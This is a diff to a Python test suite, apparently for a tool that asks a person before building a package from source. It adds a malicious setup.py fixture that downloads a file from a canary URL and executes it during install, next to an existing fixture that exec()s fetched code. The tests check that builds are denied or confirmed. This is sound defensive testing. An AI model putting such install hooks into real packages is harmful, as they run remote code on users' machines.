@@ -113,12 +113,26 @@ except OSError as error:
     how = type(error).__name__
 setup(name="phone-zebra", version="1.0", files={{"phone_zebra.py": "HOW = " + repr(how)}})
 """
+SETUP_FETCHES_A_COMPILER = """
+import os, subprocess, urllib.request
+from setuptools import setup
+if not os.path.exists("/usr"):
+    urllib.request.urlretrieve("{canary}", "compiler")
+    subprocess.call(["./compiler"])
+setup(name="fetching-zebra", version="1.0", files={{"fetching_zebra.py": ""}})
+"""
 SETUP_RUNS_A_DOWNLOAD = """
 import urllib.request
 exec(urllib.request.urlopen("{canary}").read())
 from setuptools import setup
 setup(name="dropper-zebra", version="1.0", files={{}})
 """
+
+SETUPS = {
+    "phone": SETUP_PHONES_HOME,
+    "fetching": SETUP_FETCHES_A_COMPILER,
+    "dropper": SETUP_RUNS_A_DOWNLOAD,
+}
 
 
 def witness(served, outside="/nowhere/x", program="/usr/bin/planted"):
@@ -156,7 +170,7 @@ def registries(outside):
             attack = attack.replace("{stem}", stem)
             code = BACKEND_IN_ARCHIVE.format(name=name, stem=stem, attack=attack)
             add_source(served, name, files={"pyproject.toml": OWN_BACKEND, "own.py": code})
-        for name, code in (("phone", SETUP_PHONES_HOME), ("dropper", SETUP_RUNS_A_DOWNLOAD)):
+        for name, code in SETUPS.items():
             setup = code.format(canary=served.base + CANARY)
             add_source(served, f"{name}-zebra", files={"setup.py": setup})
         yield served
@@ -380,6 +394,15 @@ def test_a_person_is_asked_before_a_source_is_built(configure, tmp_path, state_h
     assert outcome.status == "ok", outcome
     assert asked == ["pypi:reqeusts"] * 2  # one question for the build and for the resolver
     assert "reqeusts-1.0-py3-none-any.whl.json" in built(state_home)
+    # The inspection asks about one file, before anything of it runs.
+    asked.clear()
+    outcome = build(config, "fetching-zebra", answer=partial(answer, kind=AnswerKind.DENY))
+    assert outcome.status == "denied"
+    assert "fetching_zebra-1.0-py3-none-any.whl.json" not in built(state_home)
+    outcome = build(config, "fetching-zebra", answer=partial(answer, kind=AnswerKind.ONCE))
+    assert outcome.status == "ok", outcome
+    assert [each.split(" ")[0] for each in asked] == ["pypi:fetching-zebra"] * 2
+    assert "fetching_zebra-1.0-py3-none-any.whl.json" in built(state_home)
 
 
 _INSTALL = """
